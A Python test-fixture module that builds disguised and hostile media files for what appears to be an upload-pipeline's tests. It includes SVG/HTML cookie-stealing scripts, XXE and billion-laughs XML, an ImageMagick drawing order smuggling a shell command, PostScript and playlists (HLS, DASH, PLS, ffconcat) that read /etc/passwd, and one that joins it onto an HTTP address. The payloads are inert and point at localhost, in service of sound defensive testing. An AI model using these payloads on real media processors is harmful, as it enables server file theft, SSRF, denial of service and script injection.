"""Texts, scripts, programs and lists that are given as media: nothing in them was ever seen by a lens or heard by a microphone.

Rows of (file name, bytes, why). Several decode nevertheless: the libraries play lists, draw text and synthesise sound on request. Whatever
lies behind an address is at 127.0.0.1 or under `.invalid`; `neighbour.*` are other people's valid files in the same folder.
"""

from __future__ import annotations

import gzip
import pickle
import sqlite3
import struct
from collections.abc import Iterator

from tests.factories.container_bytes import noise

Row = tuple[str, bytes, str]
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">%b</svg>'
_HTML = b"<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(1)</script></body></html>"
_M3U8 = b"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n%b\n#EXT-X-ENDLIST\n"


def wrong_names() -> Iterator[Row]:
    """Nothing that decodes, under the ending of something that does."""
    text = b"I remember the house and the well behind it. Nothing here was recorded.\n" * 40
    for ending in ("mp3", "wav", "flac", "pdf", "docx"):
        yield f"text.{ending}", text, f"is plain text called .{ending}"
    yield "text-utf-16.ogg", "\ufeff".encode("utf-16-le") + text.decode().encode("utf-16-le"), "is text in UTF-16 called .ogg"
    for ending in ("jpg", "png", "mp4"):
        yield f"page.{ending}", _HTML, f"is a page of the web with a script called .{ending}"
    yield "shell.wav", b"#!/bin/sh\necho never run this\n", "is a shell script called .wav"
    yield "python.flac", b"#!/usr/bin/env python3\nprint('never run this')\n", "is a Python script called .flac"
    yield "table.mp4", b"identifier,title,media\n1,A talk,talk.wav\n" * 30, "is a table called .mp4"
    yield "facts.m4a", b'{"title": "A talk", "media": ["talk.wav"]}', "is JSON called .m4a"
    yield "noise.mp3", noise(8192, 11), "is bytes without order called .mp3"
    yield "noise.jpg", noise(8192, 12), "is bytes without order called .jpg"
    yield "noise.pdf", noise(8192, 13), "is bytes without order called .pdf"
    yield "zeros.mp4", bytes(8192), "is zeros called .mp4"


def drawn_texts() -> Iterator[Row]:
    """Texts that a media library draws or plays of itself, so that whatever text is given becomes a 'recording'."""
    ansi = b"\x1b[2J\x1b[1;31mThe words of a file\x1b[0m\r\n\x1b[10;10Hof the server, drawn as a film.\r\n" * 20
    yield "drawn.ans", ansi, "is a text with terminal marks, which a library draws as a film"
    yield "drawn.mp4", ansi, "is a text with terminal marks called .mp4"
    yield "notes.nfo", b"A plain note.\r\n" * 50, "is a note under an ending that a library draws as a film"
    yield "synthesised.wav", b"# SBAGEN\ntone: pink/40 100+1.5/20\n00:00 == tone\n09:00 == tone\nNOW tone\n+10:00:00 tone\n", \
        "is a script from which a library synthesises hours of sound"
    yield "drawn.xpm", b'/* XPM */\nstatic char *x[] = {"2 2 1 1","a c #ff0000","aa","aa"};\n', \
        "is a program text that is a picture to a library"
    orders = b"push graphic-context\nviewbox 0 0 9 9\n%b\npop graphic-context\n"
    yield "vectors.mvg", orders % b"fill 'url(http://127.0.0.1:9/x.jpg\"|echo \"never)'", "is a list of drawing orders with an address"
    yield "vectors.jpg", orders % b"image over 0,0 0,0 'label:@/etc/passwd'", \
        "is a list of drawing orders called .jpg that reads a file of the server"
    eps = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 20 20\n%%EndComments\n(/etc/passwd) (r) file pop\nshowpage\n%%EOF\n"
    yield "program.eps", eps, "is a PostScript program, run to be seen"
    yield "program.jpg", eps, "is a PostScript program called .jpg"


def vectors() -> Iterator[Row]:
    """SVG is a page of the web: scripts, addresses, entities."""
    plain = _SVG % b'<rect width="40" height="40" fill="red"/>'
    yield "plain.svg", plain, "is SVG, which has no pixels to take"
    yield "plain-svg.png", plain, "is SVG called .png"
    yield "script.svg", _SVG % b"<script>alert(document.cookie)</script>", "is SVG with a script"
    yield "script-svg.jpg", b'<?xml version="1.0"?>' + _SVG % b'<a xlink:href="javascript:alert(1)"><text>x</text></a>', \
        "is SVG with a script called .jpg"
    yield "outside.svg", _SVG % b'<image xlink:href="http://127.0.0.1:9/seen.png" width="40" height="40"/>', \
        "is SVG that fetches from an address"
    yield "server.svg", _SVG % b'<image xlink:href="file:///etc/passwd" width="40" height="40"/>', "is SVG that reads a file of the server"
    yield "page.svg", _SVG % b'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://127.0.0.1:9/"/></foreignObject>', \
        "is SVG that holds a page of the web"
    yield "packed.svgz", gzip.compress(_SVG % b"<script>alert(1)</script>", mtime=0), "is packed SVG with a script"
    yield "entities.svg", _laughs(b"svg") + b"<svg>&i;</svg>", "is SVG whose entities unfold to gigabytes"


def playlists() -> Iterator[Row]:
    """Lists of other files: what is played lies elsewhere, on the server or beyond."""
    for ending in ("m3u", "m3u8"):
        yield f"server.{ending}", _M3U8 % b"file:///etc/passwd", "is a list that plays a file of the server"
    yield "address.m3u8", _M3U8 % b"http://127.0.0.1:9/part.ts", "is a list that fetches from an address"
    yield "joined.m3u8", _M3U8 % b"concat:http://127.0.0.1:9/head|file:///etc/passwd", \
        "is a list that sends a file of the server to an address"
    yield "inline.m3u8", _M3U8 % b"data:video/mp2t;base64,RwAAAAAAAAAA", "is a list that holds its part in an address"
    yield "key.m3u8", _M3U8 % b'#EXT-X-KEY:METHOD=AES-128,URI="file:///etc/passwd"\nneighbour.mp4', \
        "is a list whose key is a file of the server"
    yield "neighbour.m3u8", _M3U8 % b"neighbour.mp4", "is a list that plays the file of somebody else"
    yield "list.mp4", _M3U8 % b"file:///etc/passwd", "is a list called .mp4 that plays a file of the server"
    yield "neighbour-list.wav", _M3U8 % b"neighbour.mp4", "is a list called .wav that plays the file of somebody else"
    yield "list.avi", b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n/etc/passwd\n#EXT-X-ENDLIST\n", "is a list called .avi"
    yield "list.pls", b"[playlist]\nNumberOfEntries=1\nFile1=file:///etc/passwd\nVersion=2\n", "is a list of files of the server"
    yield "list.xspf", b'<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>' \
        b"file:///etc/passwd</location></track></trackList></playlist>", "is a list of files of the server"
    yield "list.asx", b'<asx version="3.0"><entry><ref href="http://127.0.0.1:9/x.wav"/></entry></asx>', "is a list of addresses"
    yield "list.cue", b'FILE "neighbour.wav" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n', \
        "says where tracks begin in the file of somebody else"
    yield "script.ffconcat", b"ffconcat version 1.0\nfile neighbour.wav\nduration 1\n", "is a script that joins the files of somebody else"
    yield "script.wav", b"ffconcat version 1.0\nfile neighbour.wav\nduration 1\n", "is such a script called .wav"
    yield "server-script.mp3", b"ffconcat version 1.0\nfile /etc/passwd\n", "is a script that joins files of the server, called .mp3"
    yield "filter.txt", b"amovie=neighbour.wav [out0]", "is a description of filters that reads the file of somebody else"
    mpd = (b'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S" profiles='
           b'"urn:mpeg:dash:profile:isoff-main:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1">'
           b"<BaseURL>file:///etc/passwd</BaseURL></Representation></AdaptationSet></Period></MPD>")
    yield "list.mpd", mpd, "is a DASH list of files of the server"
    yield "dash.mp4", mpd, "is a DASH list called .mp4"
    sdp = b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio 9 RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n"
    yield "session.sdp", sdp, "describes a session at an address, and waits for it"
    yield "session.mp3", sdp, "describes a session at an address, called .mp3"
    yield "neighbour-%03d.png", b"this is not a picture\n", "has a name that a library reads as a row of other people's pictures"
    yield "neighbour-*.png", b"this is not a picture\n", "has a name that a library reads as every picture that fits"


def subtitles() -> Iterator[Row]:
    """Words for under a film, given as the film."""
    srt = b"1\n00:00:00,000 --> 00:00:02,000\nA line under a film.\n\n"
    ass = (b"[Script Info]\nScriptType: v4.00+\n\n[V4+ Styles]\nFormat: Name, Fontname, Fontsize\nStyle: Default,Arial,20\n\n[Events]\n"
           b"Format: Layer, Start, End, Style, Text\nDialogue: 0,0:00:00.00,0:00:02.00,Default,A line under a film.\n")
    yield "talk.srt", srt, "is subtitles given as media"
    yield "talk-srt.mp4", srt, "is subtitles called .mp4"
    yield "talk.ass", ass, "is subtitles given as media"
    yield "talk-ass.mkv", ass, "is subtitles called .mkv"
    yield "talk.vtt", b"WEBVTT\n\n00:00.000 --> 00:02.000\nA line under a film.\n", "is subtitles given as media"


def programs() -> Iterator[Row]:
    """What a machine would run, open or load; none of it does anything."""
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    elf += struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 132, 132, 4096) + b"\xb8\x3c\0\0\0\x31\xff\x0f\x05"
    yield "program", elf, "is a program for Linux"
    yield "program-elf.jpg", elf, "is a program for Linux called .jpg"
    exe = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0\x64\x86" + bytes(200)
    yield "program.exe", exe, "is a program for Windows"
    yield "program-exe.mp3", exe, "is a program for Windows called .mp3"
    yield "program.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(64), "is a program for Java"
    yield "program.pickle", pickle.dumps({"a": 1}, protocol=4), "is a pickle, which runs when it is loaded"
    yield "shortcut.lnk", struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + bytes(56), \
        "is a shortcut of Windows"
    yield "shortcut.url", b"[InternetShortcut]\r\nURL=file://127.0.0.1/share\r\nIconFile=\\\\127.0.0.1\\x.ico\r\n", \
        "is a shortcut to an address"
    yield "shortcut.desktop", b"[Desktop Entry]\nType=Application\nExec=echo never\nName=talk.wav\n", "is a shortcut that runs a program"
    font = b"\0\1\0\0" + struct.pack(">HHHH", 1, 16, 0, 0) + b"name" + struct.pack(">III", 0, 28, 6) + struct.pack(">HHH", 0, 0, 6)
    yield "letters.ttf", font, "is a font"
    yield "letters.png", font, "is a font called .png"
    yield "letters.woff2", b"wOF2\0\1\0\0" + bytes(40), "is a font"
    yield "rows.sqlite", _database(), "is a database"
    yield "rows.wav", _database(), "is a database called .wav"


def pages() -> Iterator[Row]:
    """Pages of the web and XML that fetch, refresh or unfold."""
    yield "page.html", _HTML, "is a page of the web with a script"
    yield "refresh.html", b'<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">', "is a page that sends its reader elsewhere"
    yield "refresh.gif", b'GIF89a<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">', \
        "begins as a gif and is a page that sends its reader elsewhere"
    yield "entity.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY i SYSTEM "file:///etc/passwd">]><a>&i;</a>', \
        "is XML that reads a file of the server"
    yield "entity-xml.pdf", b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://127.0.0.1:9/a.dtd"><a/>', \
        "is XML that fetches from an address, called .pdf"
    yield "laughs.xml", _laughs(b"a") + b"<a>&i;</a>", "is XML whose entities unfold to gigabytes"
    yield "letter.eml", b"From: a@example.invalid\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _HTML, \
        "is a letter with a page in it"


def _laughs(root: bytes) -> bytes:
    names = b"abcdefghi"
    entities = b'<!ENTITY a "ha ha ha ha ha">' + b"".join(
        b'<!ENTITY %c "%b">' % (name, b"&%c;" % before * 10) for before, name in zip(names, names[1:], strict=False))
    return b'<?xml version="1.0"?><!DOCTYPE ' + root + b" [" + entities + b"]>"


def _database() -> bytes:
    made = sqlite3.connect(":memory:")
    made.execute("CREATE TABLE people (name TEXT)")
    made.execute("INSERT INTO people VALUES ('nobody')")
    made.commit()
    data = made.serialize()
    made.close()
    return data
